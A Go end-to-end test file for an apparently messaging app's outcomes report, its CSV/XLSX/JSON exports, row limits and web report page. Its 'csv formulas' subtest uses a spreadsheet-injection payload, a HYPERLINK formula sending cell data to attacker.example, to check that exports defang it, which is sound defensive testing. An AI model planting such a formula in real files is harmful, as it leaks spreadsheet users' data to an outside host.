package main

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"fmt"
	"io"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/getkin/kin-openapi/openapi3filter"

	"github.com/parleyhq/parley/store/storetest"
)

func init() {
	// Export bodies are files: the OpenAPI checker reads them as strings.
	for _, ct := range []string{"text/csv", "application/x-ndjson", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"} {
		openapi3filter.RegisterBodyDecoder(ct, openapi3filter.FileBodyDecoder)
	}
}

// withExportLimit boots Parley with another export row limit.
func withExportLimit(n int) envOption {
	return func(c *Config, _ *twiliotestConfig) { c.exportLimit = n }
}

// outcomeSeed is what seedReportOutcomes put in the database.
type outcomeSeed struct {
	inbox, channel string
	alice, bob     int64
}

// seedReportOutcomes makes two conversations through the carrier and
// records outcomes on them directly in January 2026: the outcomes API is
// not what these tests are about. In January and live: 7 outcomes, one
// of them in another inbox; besides them one deleted, one in February.
func seedReportOutcomes(t *testing.T, e *env) outcomeSeed {
	t.Helper()
	ch := e.setupChannel(nil)
	e.text("+14155550001", "hi, a quote please")
	e.text("+14155550002", "hello")
	db := e.rawSQL()
	s := outcomeSeed{inbox: fmt.Sprint(ch["inbox_id"]), channel: fmt.Sprint(ch["id"])}
	var account int64
	e.eventually("two conversations", func() bool {
		var n int
		_ = db.Get(&n, `SELECT COUNT(*) FROM conversations`)
		return n == 2
	})
	if err := db.Get(&account, `SELECT account_id FROM conversations LIMIT 1`); err != nil {
		t.Fatal(err)
	}
	_ = db.Get(&s.alice, db.Rebind(`SELECT id FROM conversations WHERE contact_phone = ?`), "+14155550001")
	_ = db.Get(&s.bob, db.Rebind(`SELECT id FROM conversations WHERE contact_phone = ?`), "+14155550002")
	day := func(d int, h int) int64 { return time.Date(2026, 1, d, h, 0, 0, 0, time.UTC).UnixMilli() }
	insert := func(conv int64, typ string, at int64, units any, cur any, meta string, inbox any, deleted any) {
		t.Helper()
		_, err := db.Exec(db.Rebind(`INSERT INTO outcomes (account_id, conversation_id, type, metadata, amount_units, currency, source, created_at, deleted_at, inbox_id, channel_id, origin)
VALUES (?, ?, ?, ?, ?, ?, 'api', ?, ?, ?, ?, 'inbound')`), account, conv, typ, meta, units, cur, at, deleted, inbox, s.channel)
		if err != nil {
			t.Fatal(err)
		}
	}
	insert(s.alice, "quote_sent", day(2, 9), nil, nil, `{}`, s.inbox, nil)
	insert(s.bob, "quote_sent", day(6, 9), nil, nil, `{}`, s.inbox, nil)
	insert(s.alice, "quote_accepted", day(7, 9), nil, nil, `{}`, s.inbox, nil)
	insert(s.alice, "invoice_paid", day(8, 9), 10, "USD", `{"amount":"0.10","currency":"USD","po":"Say \"hi\", <ok>"}`, s.inbox, nil)
	insert(s.bob, "invoice_paid", day(20, 9), 20, "USD", `{"amount":"0.20","currency":"USD"}`, s.inbox, nil)
	insert(s.bob, "invoice_paid", day(21, 9), 1200, "EUR", `{"amount":"12.00","currency":"EUR"}`, s.inbox, nil)
	insert(s.bob, "invoice_paid", day(21, 10), 99999, "USD", `{}`, s.inbox, day(21, 11))
	insert(s.bob, "invoice_paid", time.Date(2026, 2, 3, 0, 0, 0, 0, time.UTC).UnixMilli(), 500, "USD", `{}`, s.inbox, nil)
	insert(s.bob, "quote_sent", day(9, 9), nil, nil, `{}`, "999999", nil)
	return s
}

const januaryRange = "from=2026-01-01T00:00:00Z&to=2026-02-01T00:00:00Z"

// TestOutcomesReportEndToEnd: the report's figures exactly as API.md
// writes them (exact decimal amounts per currency, undefined rates as
// null, every week of the range), its filters and who may see it; the
// export as CSV, XLSX and JSON; too_many_rows before anything is sent.
func TestOutcomesReportEndToEnd(t *testing.T) {
	t.Parallel()
	for _, dialect := range storetest.Dialects {
		t.Run(dialect, func(t *testing.T) {
			t.Parallel()
			testOutcomesReport(t, boot(t, storetest.URL(t, dialect), withExportLimit(7)))
		})
	}
}

func testOutcomesReport(t *testing.T, e *env) {
	s := seedReportOutcomes(t, e)

	rep := e.must(200, e.admin("GET", "/v1/reports/outcomes?"+januaryRange+"&interval=week", nil))
	revenue, _ := json.Marshal(rep["revenue"])
	if string(revenue) != `[{"amount":"12.00","count":1,"currency":"EUR"},{"amount":"0.30","count":2,"currency":"USD"}]` {
		t.Errorf("revenue = %s; want EUR 12.00 and USD 0.30 apart (0.10 + 0.20, the deleted one left out)", revenue)
	}
	quotes, _ := json.Marshal(rep["quotes"])
	if string(quotes) != `{"accepted":1,"conversion_rate":0.3333333333333333,"sent":3}` {
		t.Errorf("quotes = %s", quotes)
	}
	invoices, _ := json.Marshal(rep["invoices"])
	if string(invoices) != `{"paid":3,"paid_rate":null,"sent":0}` {
		t.Errorf("invoices = %s; want paid_rate null with none sent", invoices)
	}
	series, _ := rep["series"].([]any)
	if len(series) != 5 {
		t.Fatalf("series = %d weeks; want the 5 weeks January 2026 touches", len(series))
	}
	first, _ := series[0].(map[string]any)
	if first["start"] != "2025-12-29T00:00:00Z" || first["quote_sent"] != 1.0 {
		t.Errorf("first week = %v; want Monday 29 Dec with one quote sent", first)
	}
	if third, _ := series[2].(map[string]any); third["invoice_paid"] != 0.0 || fmt.Sprint(third["revenue"]) != "[]" {
		t.Errorf("third week = %v; want an empty week", third)
	}

	other := e.must(200, e.admin("GET", "/v1/reports/outcomes?"+januaryRange+"&inbox_id="+s.inbox, nil))
	if q := other["quotes"].(map[string]any); q["sent"] != 2.0 {
		t.Errorf("inbox %s: quotes %v; want the 2 of that inbox", s.inbox, q)
	}
	wantAPIError(t, e.admin("GET", "/v1/reports/outcomes?to=2026-01-01T00:00:00Z&interval=year", nil), 422, "", "from", "interval")
	_, agentToken, _ := e.addStaff("agent@example.com", "agent", false)
	wantAPIError(t, e.call(agentToken, "GET", "/v1/reports/outcomes?"+januaryRange, nil), 403, "")
	_, viewerToken, _ := e.addStaff("viewer@example.com", "agent", true)
	e.must(200, e.call(viewerToken, "GET", "/v1/reports/outcomes?"+januaryRange, nil))

	t.Run("csv", func(t *testing.T) {
		r := e.admin("GET", "/v1/exports/outcomes?format=csv&"+januaryRange, nil)
		e.must(200, r)
		if ct := r.Header.Get("Content-Type"); !strings.HasPrefix(ct, "text/csv") {
			t.Errorf("Content-Type = %q", ct)
		}
		if cd := r.Header.Get("Content-Disposition"); cd != `attachment; filename="outcomes-20260101-20260201.csv"` {
			t.Errorf("Content-Disposition = %q", cd)
		}
		rows, err := csv.NewReader(bytes.NewReader(r.Body)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if len(rows) != 8 || rows[0][0] != "outcome_id" {
			t.Fatalf("csv = %d lines; want a header and 7 outcomes", len(rows))
		}
		col := map[string]int{}
		for i, c := range rows[0] {
			col[c] = i
		}
		paid := rows[4]
		if paid[col["type"]] != "invoice_paid" || paid[col["amount"]] != "0.10" || paid[col["contact_phone"]] != "+14155550001" ||
			!strings.Contains(paid[col["metadata"]], `"po":"Say \"hi\", <ok>"`) {
			t.Errorf("row = %q; want alice's 0.10 USD with its metadata", paid)
		}
	})
	t.Run("xlsx", func(t *testing.T) {
		r := e.admin("GET", "/v1/exports/outcomes?format=xlsx&"+januaryRange, nil)
		e.must(200, r)
		z, err := zip.NewReader(bytes.NewReader(r.Body), int64(len(r.Body)))
		if err != nil {
			t.Fatalf("not a zip: %v", err)
		}
		var sheet struct {
			Rows []struct {
				Cells []struct {
					Text string `xml:"is>t"`
					V    string `xml:"v"`
				} `xml:"c"`
			} `xml:"sheetData>row"`
		}
		for _, f := range z.File {
			if f.Name == "xl/worksheets/sheet1.xml" {
				rd, _ := f.Open()
				body, _ := io.ReadAll(rd)
				if err := xml.Unmarshal(body, &sheet); err != nil {
					t.Fatalf("sheet: %v", err)
				}
			}
		}
		if len(sheet.Rows) != 8 || sheet.Rows[0].Cells[0].Text != "outcome_id" {
			t.Fatalf("sheet = %d rows; want a header and 7 outcomes", len(sheet.Rows))
		}
	})
	t.Run("json", func(t *testing.T) {
		r := e.admin("GET", "/v1/exports/outcomes?format=json&"+januaryRange, nil)
		var rows []map[string]any
		if err := json.Unmarshal(r.Body, &rows); err != nil || len(rows) != 7 {
			t.Fatalf("json = %d rows, %v; want 7 in one array", len(rows), err)
		}
		if meta, ok := rows[3]["metadata"].(map[string]any); !ok || meta["currency"] != "USD" {
			t.Errorf("metadata = %v; want the object itself", rows[3]["metadata"])
		}
	})
	t.Run("csv formulas", func(t *testing.T) {
		// What outsiders write comes out with a leading ' when it starts
		// like a formula, so a spreadsheet does not run it; phones keep "+".
		bob := e.must(200, e.admin("GET", fmt.Sprintf("/v1/conversations/%d", s.bob), nil))["contact"].(map[string]any)
		e.must(200, e.admin("PATCH", "/v1/contacts/"+bob["id"].(string), map[string]any{"name": "@SUM(A1)"}))
		named := 0
		for _, r := range exportRows(t, "csv", e.exportFile(t, "outcomes", "csv", januaryRange, "outcomes-20260101-20260201.csv")) {
			if r["contact_phone"] == "+14155550002" {
				named++
				if r["contact_name"] != "'@SUM(A1)" {
					t.Errorf("bob's contact_name = %q; want '@SUM(A1)", r["contact_name"])
				}
			}
		}
		if named == 0 {
			t.Error("no outcome of bob's in the export")
		}

		const attack = `=HYPERLINK("http://attacker.example/?x="&A1,"Click")`
		e.text("+14155550003", attack)
		now := time.Now().UTC()
		query := "from=" + now.Add(-time.Hour).Format(time.RFC3339) + "&to=" + now.Add(time.Hour).Format(time.RFC3339) + "&direction=inbound"
		var found map[string]string
		e.eventually("the text in the messages export", func() bool {
			r := e.admin("GET", "/v1/exports/messages?format=csv&"+query, nil)
			e.must(200, r)
			for _, row := range exportRows(t, "csv", r.Body) {
				if row["contact_phone"] == "+14155550003" {
					found = row
				}
			}
			return found != nil
		})
		if found["body"] != "'"+attack {
			t.Errorf("body = %q; want it after a '", found["body"])
		}
	})
	t.Run("too many rows", func(t *testing.T) {
		r := e.admin("GET", "/v1/exports/outcomes?format=csv&from=2026-01-01T00:00:00Z&to=2026-03-01T00:00:00Z", nil)
		wantAPIError(t, r, 422, "too_many_rows")
		if cd := r.Header.Get("Content-Disposition"); cd != "" {
			t.Errorf("a refused export was offered as a file: %q", cd)
		}
	})
	t.Run("refused", func(t *testing.T) {
		wantAPIError(t, e.admin("GET", "/v1/exports/outcomes?format=pdf&"+januaryRange, nil), 422, "", "format")
		wantAPIError(t, e.call(agentToken, "GET", "/v1/exports/outcomes?format=csv&"+januaryRange, nil), 403, "")
		wantAPIError(t, e.admin("GET", "/v1/exports/nothing?format=csv&"+januaryRange, nil), 404, "")
	})
}

// TestExportCutShortIsNotComplete: when reading the rows fails after the
// first bytes went out, the download breaks instead of ending as if
// complete. A row SQLite stores with an amount that is not a number
// fails the scan well after the first page of rows was sent.
func TestExportCutShortIsNotComplete(t *testing.T) {
	t.Parallel()
	e := boot(t, "")
	s := seedReportOutcomes(t, e)
	db := e.rawSQL()
	tx := db.MustBegin()
	base := time.Date(2026, 1, 10, 0, 0, 0, 0, time.UTC)
	for i := range 3000 {
		tx.MustExec(`INSERT INTO outcomes (account_id, conversation_id, type, source, created_at, origin) SELECT account_id, id, 'quote_sent', 'api', ?, 'inbound' FROM conversations WHERE id = ?`,
			base.Add(time.Duration(i)*time.Second).UnixMilli(), s.alice)
	}
	tx.MustExec(`INSERT INTO outcomes (account_id, conversation_id, type, source, created_at, origin, amount_units, currency) SELECT account_id, id, 'invoice_paid', 'api', ?, 'inbound', 'not a number', 'USD' FROM conversations WHERE id = ?`,
		base.Add(2*time.Hour).UnixMilli(), s.alice)
	if err := tx.Commit(); err != nil {
		t.Fatal(err)
	}
	for _, format := range []string{"csv", "json"} {
		req, _ := http.NewRequest("GET", e.base+"/v1/exports/outcomes?format="+format+"&"+januaryRange, nil)
		req.Header.Set("Authorization", "Bearer "+e.token)
		res, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		body, err := io.ReadAll(res.Body)
		res.Body.Close()
		if res.StatusCode != 200 || len(body) < 10_000 {
			t.Fatalf("%s: status %d after %d bytes; want the first rows sent", format, res.StatusCode, len(body))
		}
		if err == nil {
			t.Errorf("%s: the download of %d bytes ended cleanly; want it broken", format, len(body))
		}
		if format == "json" && bytes.HasSuffix(bytes.TrimSpace(body), []byte("]")) {
			t.Error("json: the cut export ends like a whole array")
		}
	}
	if !strings.Contains(e.logs.String(), "export cut short") {
		t.Error("the failure was not logged")
	}
}

// TestWebReportOutcomes: Reports → Outcomes shows the seeded revenue per
// currency and the quote conversion, draws its charts as SVG with a title,
// and changing the interval to weeks redraws it by week.
func TestWebReportOutcomes(t *testing.T) {
	t.Parallel()
	e := boot(t, "")
	seedReportOutcomes(t, e)
	admin := e.adminMember()
	b := e.browser()
	b.signIn(admin.Email, admin.Password)
	b.click("nav[aria-label=Main] a[href='/reports/outcomes']")
	b.waitText("h1", "Outcomes")
	b.open("/reports/outcomes?from=2026-01-01&to=2026-01-31")
	b.waitText("[data-figure=revenue]", "EUR 12.00")
	b.waitText("[data-figure=revenue]", "USD 0.30")
	b.waitText("[data-rate=conversion]", "33.3%")
	svgTitle := `document.querySelector("#chart-outcomes title").textContent`
	if title := eval[string](b, svgTitle); title != "Outcomes by day" {
		t.Errorf("chart title = %q", title)
	}
	if n := eval[int](b, `document.querySelectorAll("#chart-outcomes polyline").length`); n != 3 {
		t.Errorf("%d lines; want one per type recorded (quotes sent, accepted, invoices paid)", n)
	}
	if n := eval[int](b, `document.querySelectorAll("table.series tbody tr").length`); n != 31 {
		t.Errorf("%d days in the table; want 31", n)
	}
	if href := eval[string](b, `document.querySelector(".exports a").getAttribute("href")`); !strings.Contains(href, "/v1/exports/outcomes?") || !strings.Contains(href, "format=csv") {
		t.Errorf("download link = %q", href)
	}

	eval[string](b, `document.querySelector("#r-interval").value = "week"`)
	b.click(".report-filters button[type=submit]")
	b.waitText("table.series caption", "by week")
	if title := eval[string](b, svgTitle); title != "Outcomes by week" {
		t.Errorf("chart title = %q after choosing weeks", title)
	}
	if n := eval[int](b, `document.querySelectorAll("table.series tbody tr").length`); n != 5 {
		t.Errorf("%d weeks in the table; want 5", n)
	}
	b.waitText("table.series tbody tr", "Week of 29 Dec 2025")
	if n := eval[int](b, `document.querySelectorAll("svg[id^=chart-revenue-] rect.bar").length`); n != 10 {
		t.Errorf("%d revenue bars; want 5 weeks for each of the two currencies", n)
	}
}
